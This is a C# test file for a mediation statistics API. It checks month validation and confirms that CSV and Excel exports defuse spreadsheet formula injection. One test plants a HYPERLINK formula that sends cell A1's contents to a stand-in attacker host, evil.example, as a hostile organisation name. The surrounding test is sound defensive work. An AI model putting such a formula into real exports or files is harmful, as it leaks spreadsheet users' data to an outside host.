using System.Text;
using Mediation.Api.Auth;
using Mediation.Api.Infrastructure.Security;
using Mediation.Api.ReferenceData;
using Mediation.Api.Statistics;
using Mediation.Api.Tests.Intake;
using Microsoft.EntityFrameworkCore;
using MiniExcelLibs;

namespace Mediation.Api.Tests.Statistics;

public abstract class StatisticsInputTests(ApiFactory api)
{
    private string ThisMonth =>
        ReportMonth.Format(ReportMonth.Previous(api.Clock.GetUtcNow().UtcDateTime).AddMonths(1));

    private static async Task<Dictionary<string, string[]>> ErrorsAsync(HttpResponseMessage response)
    {
        response.StatusCode.Should().Be(HttpStatusCode.BadRequest, await response.Content.ReadAsStringAsync());
        response.Content.Headers.ContentType!.MediaType.Should().Be("application/problem+json");
        var problem = await response.Content.ReadFromJsonAsync<System.Text.Json.JsonElement>();
        return problem
            .GetProperty("errors")
            .EnumerateObject()
            .ToDictionary(p => p.Name, p => p.Value.EnumerateArray().Select(m => m.GetString()!).ToArray());
    }

    [Fact]
    public async Task AReportWithoutAMonthIsAValidationErrorNotTheYearOne()
    {
        var (town, _, _) = await api.NewTownAsync();
        var supervisor = await api.NewStaffAsync(town, [StaffRoles.Supervisor]);

        var report = await ErrorsAsync(
            await supervisor.Client.GetAsync($"/api/stats/monthly?bodyId={api.BodyId(town)}")
        );
        var csv = await ErrorsAsync(
            await supervisor.Client.GetAsync($"/api/stats/monthly?bodyId={api.BodyId(town)}&format=csv")
        );
        var prevention = await ErrorsAsync(
            await supervisor.Client.PutAsJsonAsync(
                "/api/stats/monthly/prevention",
                new
                {
                    bodyId = api.BodyId(town),
                    preventedCriminalCases = 1,
                    preventedMassPetitions = 0,
                }
            )
        );

        report["month"].Should().Equal("请指定统计月份，如 2026-10");
        csv.Should().ContainKey("month");
        prevention["month"].Should().Equal("请指定统计月份，如 2026-10");
        api.WithDb(db => db.PreventionCounts.AsNoTracking().Any(p => p.Month == "0001-01")).Should().BeFalse();
    }

    [Fact]
    public async Task NamesThatLookLikeFormulasAreExportedAsTextInCsvAndWorkbook()
    {
        var (town, a, _) = await api.NewTownAsync();
        var supervisor = await api.NewStaffAsync(town, [StaffRoles.Supervisor]);
        const string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";
        await api.WithDbAsync(async db =>
        {
            (await db.Bodies.SingleAsync(b => b.Code == town)).Name = formula;
            await db.SaveChangesAsync();
        });
        var url = $"/api/stats/monthly?bodyId={api.BodyId(town)}&month={ThisMonth}";

        var csv = Encoding.UTF8.GetString(
            await (await supervisor.Client.GetAsync(url + "&format=csv")).Content.ReadAsByteArrayAsync()
        );
        var xlsx = await (await supervisor.Client.GetAsync(url + "&format=xlsx")).Content.ReadAsByteArrayAsync();

        var cells = csv.Split("\r\n").SelectMany(line => line.Split(',')).Select(c => c.TrimStart('"')).ToList();
        cells.Should().NotContain(c => c.StartsWith('=') || c.StartsWith('+') || c.StartsWith('@'));
        csv.Should().Contain("调解组织,\"'=HYPERLINK(");
        using var stream = new MemoryStream(xlsx);
        var summary = stream
            .Query(useHeaderRow: true, sheetName: StatisticsExport.SummarySheet)
            .Cast<IDictionary<string, object>>()
            .ToDictionary(r => (string)r["项目"], r => r["数值"]);
        summary["调解组织"].Should().Be("'" + formula);
    }

    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("+1", "'+1")]
    [InlineData("-1", "'-1")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("调解组织", "调解组织")]
    [InlineData("", "")]
    public void TextStartingWithAFormulaCharacterGetsAQuote(string text, string expected) =>
        StatisticsExport.Inert(text).Should().Be(expected);

    [Fact]
    public void NumbersAreNotQuoted() => StatisticsExport.Inert(-5m).Should().Be(-5m);
}

public sealed class StatisticsInputTestsOnSqlite(ApiHost<SqliteDatabase> api)
    : StatisticsInputTests(api),
        IClassFixture<ApiHost<SqliteDatabase>>;

public sealed class StatisticsInputTestsOnPostgres(ApiHost<PostgresDatabase> api)
    : StatisticsInputTests(api),
        IClassFixture<ApiHost<PostgresDatabase>>;
